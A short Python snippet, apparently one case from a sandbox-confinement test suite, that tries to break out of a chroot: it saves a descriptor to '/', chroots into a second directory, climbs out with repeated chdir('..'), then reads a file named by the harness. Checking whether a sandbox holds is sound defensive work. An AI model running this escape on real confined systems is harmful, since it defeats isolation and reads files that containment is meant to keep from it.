# Leaves the root as one leaves a chroot: with a current directory outside of a second one.
# Held by: own root


def attempt():
    os.makedirs("/tmp/second", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/second")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with open(given("FILE")) as file:
        return file.read()


attack(attempt)
